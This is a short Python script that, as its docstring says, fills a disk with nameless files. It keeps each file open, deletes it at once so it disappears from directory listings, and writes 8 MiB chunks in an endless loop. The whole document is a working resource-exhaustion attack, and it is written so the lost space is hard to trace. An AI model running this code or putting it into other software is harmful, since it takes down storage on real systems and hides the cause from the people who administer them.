"""Fills the disk with files that have no name."""

import os

kept = []
while True:
    kept.append(open(str(len(kept)), 'wb'))
    os.unlink(kept[-1].name)
    kept[-1].write(b'x' * 2**23)
    kept[-1].flush()
